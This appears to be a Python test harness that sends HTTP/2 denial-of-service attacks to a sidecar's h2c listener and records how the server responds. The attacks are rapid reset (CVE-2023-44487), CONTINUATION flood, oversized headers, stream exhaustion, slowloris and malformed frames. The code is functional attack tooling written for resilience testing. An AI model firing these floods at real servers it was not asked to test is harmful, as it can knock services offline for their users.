"""HTTP/2 abuse against a sidecar's h2c listener, frame by frame (raw frames, `hpack` for
header blocks), reporting what the sidecar did as one JSON line.

Usage: h2_abuse.py HOST:PORT CASE
  rapid-reset         1,000 streams opened and reset at once (CVE-2023-44487)
  continuation-flood  one header block in 10,000 tiny CONTINUATION frames, never ended
  big-headers         a 64 KiB header value (the advertised list limit is 16 KiB)
  too-many-streams    1,100 open streams on one connection (1,024 advertised)
  idle                a connection that opens and then sends nothing
  slowloris           a request's HEADERS frame sent one byte every 200 ms
  malformed           requests that RFC 9113 calls malformed (connection-specific headers, te
                      other than trailers, upper-case names, misplaced or unknown
                      pseudo-headers), then a good one with look-alike headers, on one connection
  then-healthy        (after any case) a normal call on a new connection
"""
import json
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
         6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
         11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


class Connection:
    def __init__(self, target):
        host, port = target.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.buffer = b""
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def request(self, path, stream, end_stream=True, extra=()):
        headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
                   (":authority", "echo"), ("content-type", "application/grpc"),
                   ("te", "trailers")] + list(extra)
        flags = END_HEADERS | (END_STREAM if end_stream else 0)
        return frame(HEADERS, flags, stream, self.encoder.encode(headers))

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    def read_frames(self, seconds, until_status=False):
        """Frames received within `seconds` (or until the connection closes, or with
        `until_status` until a grpc-status arrives)."""
        frames, closed = [], False
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if until_status and any(k == HEADERS and "grpc-status" in p for k, _, _, p in frames):
                break
            self.sock.settimeout(max(0.01, end - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                closed = True
                break
            if not chunk:
                closed = True
                break
            self.buffer += chunk
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                payload = self.buffer[9:9 + length]
                self.buffer = self.buffer[9 + length:]
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                if kind == HEADERS:
                    try:
                        payload = dict(self.decoder.decode(payload))
                    except Exception:
                        payload = {}
                frames.append((kind, flags, stream, payload))
        return frames, closed


def summary(frames, closed):
    goaway = [CODES.get(int.from_bytes(p[4:8], "big"), "?") for k, _, _, p in frames if k == GOAWAY]
    resets = {}
    for kind, _, _, payload in frames:
        if kind == RST_STREAM:
            code = CODES.get(int.from_bytes(payload, "big"), "?")
            resets[code] = resets.get(code, 0) + 1
    statuses = {}
    for kind, _, _, payload in frames:
        if kind == HEADERS and "grpc-status" in payload:
            statuses[payload["grpc-status"]] = statuses.get(payload["grpc-status"], 0) + 1
    return {"goaway": goaway, "resets": resets, "grpc_status": statuses, "closed": closed}


def rapid_reset(target):
    c = Connection(target)
    burst = b""
    for i in range(1000):
        stream = 1 + 2 * i
        burst += c.request("/t.T/Slow", stream, end_stream=False)
        burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    c.send(burst)
    return summary(*c.read_frames(3))


def continuation_flood(target):
    c = Connection(target)
    block = c.encoder.encode([(":method", "POST"), (":scheme", "http"),
                              (":path", "/t.T/Unary"), (":authority", "echo")])
    data = frame(HEADERS, 0, 1, block)
    filler = c.encoder.encode([("x-filler", "a")])
    for _ in range(10000):
        data += frame(CONTINUATION, 0, 1, filler)
    sent = c.send(data)
    result = summary(*c.read_frames(3))
    result["sent all"] = sent
    return result


def big_headers(target):
    c = Connection(target)
    header = c.request("/t.T/Unary", 1, extra=[("x-big", "b" * 65536)])
    # Split into CONTINUATION frames of at most 16 KiB (the default frame size).
    block = header[9:]
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    data = frame(HEADERS, END_STREAM if len(chunks) > 1 else END_STREAM | END_HEADERS, 1,
                 chunks[0])
    for index, chunk in enumerate(chunks[1:], start=1):
        data += frame(CONTINUATION, END_HEADERS if index == len(chunks) - 1 else 0, 1, chunk)
    c.send(data)
    return summary(*c.read_frames(3))


def too_many_streams(target):
    c = Connection(target)
    c.read_frames(0.3)  # the sidecar's SETTINGS
    burst = b"".join(c.request("/t.T/Slow", 1 + 2 * i, end_stream=False) for i in range(1100))
    c.send(burst)
    return summary(*c.read_frames(3))


def idle(target):
    c = Connection(target)
    start = time.monotonic()
    frames, closed = c.read_frames(10)
    result = summary(frames, closed)
    result["seconds"] = round(time.monotonic() - start, 1)
    return result


def slowloris(target):
    c = Connection(target)
    start = time.monotonic()
    request = c.request("/t.T/Unary", 1, end_stream=False)
    frames, closed = [], False
    for byte in request:
        if not c.send(bytes([byte])):
            closed = True
            break
        more, closed = c.read_frames(0.2)
        frames += more
        if closed or time.monotonic() - start > 10:
            break
    result = summary(frames, closed)
    result["seconds"] = round(time.monotonic() - start, 1)
    return result


MALFORMED = [
    [("connection", "keep-alive")], [("keep-alive", "timeout=5")], [("proxy-connection", "x")],
    [("transfer-encoding", "chunked")], [("upgrade", "h2c")], [("te", "gzip")],
    [("X-Upper", "1")], [("x-after", "1"), (":status", "200")],
]


def malformed(target):
    """Each malformed request is a stream error; then a request whose headers have the same
    lengths as the refused names, but are allowed, is answered on the same connection."""
    c = Connection(target)
    burst = b""
    for i, extra in enumerate(MALFORMED):
        burst += c.request("/t.T/Unary", 1 + 2 * i, end_stream=True, extra=extra)
    good = 1 + 2 * len(MALFORMED)
    look_alike = [("ab", "1"), ("upgrad", "1"), ("user-agent", "h2-abuse"), ("tee", "gzip"),
                  ("x-proxy-connect1", "1"), ("transfer-encodin2", "1")]
    burst += c.request("/t.T/Unary", good, end_stream=False, extra=look_alike)
    burst += frame(DATA, END_STREAM, good, b"\x00\x00\x00\x00\x02ok")
    c.send(burst)
    frames, closed = c.read_frames(20, until_status=True)
    result = summary(frames, closed)
    result["reset_streams"] = sorted(s for k, _, s, _ in frames if k == RST_STREAM)
    result["answered_streams"] = sorted(
        s for k, _, s, p in frames if k == HEADERS and "grpc-status" in p)
    return result


def then_healthy(target):
    c = Connection(target)
    c.send(c.request("/t.T/Unary", 1, end_stream=False)
           + frame(DATA, END_STREAM, 1, b"\x00\x00\x00\x00\x02ok"))
    return summary(*c.read_frames(20, until_status=True))


CASES = {"rapid-reset": rapid_reset, "continuation-flood": continuation_flood,
         "big-headers": big_headers, "too-many-streams": too_many_streams, "idle": idle,
         "slowloris": slowloris, "malformed": malformed, "then-healthy": then_healthy}

if __name__ == "__main__":
    if len(sys.argv) != 3 or sys.argv[2] not in CASES:
        sys.exit(__doc__)
    print(json.dumps(CASES[sys.argv[2]](sys.argv[1])), flush=True)
